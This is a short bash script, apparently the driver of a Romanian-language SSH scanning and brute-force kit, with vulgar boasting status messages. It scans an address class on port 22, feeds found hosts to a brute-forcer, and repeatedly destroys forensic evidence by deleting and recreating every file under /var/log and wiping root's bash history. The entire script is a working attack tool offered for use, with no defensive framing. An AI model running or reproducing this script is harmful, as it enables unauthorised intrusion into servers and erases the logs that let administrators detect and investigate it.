#!/bin/bash

echo "$(ls /var/log/)">cleanlist
while read line
do   
rm -rf /var/log/$line
touch /var/log/$line
done < cleanlist
green='\E[32;40m'
col=( '\E[31;40m' '\E[32;40m' '\E[33;40m' '\E[34;40m' '\E[35;40m' '\E[36;40m' '\E[37;40m' )
clear
cat motd
echo "[SSH] Laba turbo max ..."
sleep 2
echo "[SSH] Futem tot acum pe clasa $1"
sleep 5
./class 22 -a $1 -i eth0 -s 10
cat bios.txt |sort | uniq > mfu.txt
oopsnr2=`grep -c . mfu.txt`
echo -e "[SSH] Am gasit $oopsnr2 curve"
echo "[SSH] La futai ca va rup ... "
./update 1500
rm -rf /root/.bash_history ; touch /root/.bash_history ; history -r ; 
echo "$(ls /var/log/)">cleanlist
while read line
do
rm -rf /var/log/$line
touch /var/log/$line
done < cleanlist
sleep 5
./clean
# end of file 

